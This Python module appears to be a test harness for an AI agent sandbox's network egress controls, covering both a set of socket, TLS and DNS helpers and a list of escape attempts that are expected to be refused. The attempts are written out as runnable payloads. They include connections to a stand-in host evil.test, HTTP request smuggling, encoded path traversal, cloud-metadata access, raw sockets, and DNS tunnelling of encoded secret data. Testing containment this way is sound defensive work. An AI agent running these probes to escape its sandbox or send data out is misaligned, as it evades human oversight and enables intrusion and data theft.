"""What an agent tries in order to get out or around: one text for every engine.

Each attempt is Python for the probe agent; its outcome comes back as JSON.
"""

import json
import textwrap
from collections.abc import Callable

PRELUDE = """
import json, os, socket, ssl, struct, sys, time
HERE = {address!r}
def tcp(host, port, send=b"", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((host, port))
        if send: s.sendall(send)
        got = s.recv(4096)
        if not got: raise ConnectionError("closed")
        return got.decode(errors="replace")
def udp(host, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((host, port))
        s.send(data)
        return s.recv(4096).hex()
def query(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    return head + labels + b"\\0" + struct.pack(">HH", kind, 1)
def dns_tcp(host, name):
    with socket.create_connection((host, 53), 3) as s:
        s.sendall(struct.pack(">H", len(query(name))) + query(name))
        return s.recv(4096)[2:].hex()
def tls(host, port, sni, send):
    context = ssl.create_default_context(cafile="/run/pai/ca-bundle.pem")
    with socket.create_connection((host, port), 3) as raw, \\
            context.wrap_socket(raw, server_hostname=sni) as s:
        s.sendall(send)
        return s.recv(4096).decode(errors="replace")
def tls_any(host, port, send=b"GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n"):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, port), 3) as raw, context.wrap_socket(raw) as s:
        s.sendall(send)
        return s.recv(4096).decode(errors="replace")
def follow(url):
    import urllib.request
    return urllib.request.urlopen(url, timeout=3).read()
def attempt(function):
    started = time.monotonic()
    try:
        outcome = "answered " + str(function())[:600]
    except Exception as error:
        outcome = "refused " + type(error).__name__ + " " + str(error)[:200]
    print(json.dumps({{"outcome": outcome, "seconds": time.monotonic() - started}}))
"""

GET = 'b"GET / HTTP/1.1\\r\\nhost: evil.test\\r\\n\\r\\n"'

# name: code of the attempt; each must be refused, or answered by our own refusal
ATTEMPTS = {
    "direct ip 443": "lambda: tcp(HERE, 443, b'x' * 10)",
    "direct ip 443 tls": "lambda: tls(HERE, 443, 'evil.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
    "direct ip 80": f"lambda: tcp(HERE, 80, {GET})",
    "direct ip ssh": "lambda: tcp(HERE, 22)",
    "direct ip raw port": "lambda: tcp(HERE, 9999, b'hello there')",
    "postgres port": "lambda: tcp(HERE, 5432, b'\\0\\0\\0\\x08\\x04\\xd2\\x16/')",
    "udp 443 (quic)": "lambda: udp(HERE, 443, b'\\xc0' * 1200)",
    "udp other": "lambda: udp(HERE, 9999, b'hi')",
    "ipv6 tcp": "lambda: tcp('2001:db8::1', 443, b'x', socket.AF_INET6)",
    "ipv6 udp": "lambda: udp('2001:db8::1', 443, b'x', socket.AF_INET6)",
    "ipv6 v4-mapped": "lambda: tcp('::ffff:' + HERE, 9999, b'x', socket.AF_INET6)",
    "connect proxy": (
        "lambda: tcp('127.0.0.1', 8081, b'CONNECT evil.test:443 HTTP/1.1\\r\\n"
        "host: evil.test:443\\r\\n\\r\\n')"
    ),
    "absolute form": (
        "lambda: tcp('127.0.0.1', 8081, b'GET http://evil.test/ HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\n\\r\\n')"
    ),
    "sni is not host": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'GET /notes HTTP/1.1\\r\\n"
        "host: evil.test\\r\\n\\r\\n')"
    ),
    "two hosts": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'GET /notes HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\nhost: evil.test\\r\\n\\r\\n')"
    ),
    "smuggled request": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'POST /notes HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n"
        "0\\r\\n\\r\\nGET /private/x HTTP/1.1\\r\\nhost: api.notes.test\\r\\n\\r\\n')"
    ),
    "encoded path around a rule": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', "
        "b'GET /notes/..%2fprivate/x HTTP/1.1\\r\\nhost: api.notes.test\\r\\n\\r\\n')"
    ),
    "redirect to another host": "lambda: follow('https://api.notes.test/redirect')",
    "unknown sni": "lambda: tls('127.0.0.1', 8443, 'evil.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
    "metadata": "lambda: tcp('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')",
    "metadata tls": "lambda: tcp('169.254.169.254', 443, b'x')",
    "another agent, inbound": (
        "lambda: tcp({other!r}, 8082, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "another agent, its port": (
        "lambda: tcp({other!r}, 3000, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "own inbound without the edge": (
        "lambda: (lambda said: 'HTTP/1.1 404' in said and (_ for _ in ()).throw(OSError(said)))"
        "(tcp('127.0.0.1', 8082, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'))"
    ),
    "raw socket": "lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "packet socket": "lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
    "icmp echo": (
        "lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)"
        ".connect((HERE, 0)) or (_ for _ in ()).throw(OSError('nothing was sent'))"
    ),
}

# answered by the responder itself; nothing may leave
DNS_ATTEMPTS = {
    "another dns server": "lambda: udp(HERE, 53, query('evil.test'))",
    "dns over tcp to another server": "lambda: dns_tcp(HERE, 'evil.test')",
    "data in names": "lambda: udp('8.8.8.8', 53, query('c2VjcmV0LWRhdGE.tunnel.test'))",
    "data in txt": "lambda: udp('127.0.0.1', 53, query('c2VjcmV0.tunnel.test', 16))",
}

NXDOMAIN = 3
OWN_REFUSALS = ("host_denied", "host_mismatch", "policy_denied", "malformed_request")


def run_attempt(
    run: Callable[[str], str], address: str, code: str, **facts: object
) -> dict[str, object]:
    """Run one attempt in a probe agent. run: Python in, what it printed out. address: the world."""
    prelude = PRELUDE.format(address=address)
    code = code.format(**facts) if "{" in code else code
    printed = run(textwrap.dedent(prelude) + f"\nattempt({code})\n")
    result: dict[str, object] = json.loads(printed)
    return result


def stopped(outcome: str) -> bool:
    """Say whether an attempt was refused, or got nothing but a refusal of our own.

    What nobody answered in time was not refused: a packet may have left.
    """
    own = any(f'{{"error":{{"code":"{code}"' in outcome for code in OWN_REFUSALS)
    return own or (outcome.startswith("refused") and "timed out" not in outcome)


def names_nothing(outcome: str) -> bool:
    """Say whether a DNS attempt was answered with "no such name" and no record."""
    answer = bytes.fromhex(outcome.removeprefix("answered "))
    return answer[:2] == b"\x12\x34" and answer[3] & 0x0F == NXDOMAIN and answer[6:8] == b"\0\0"
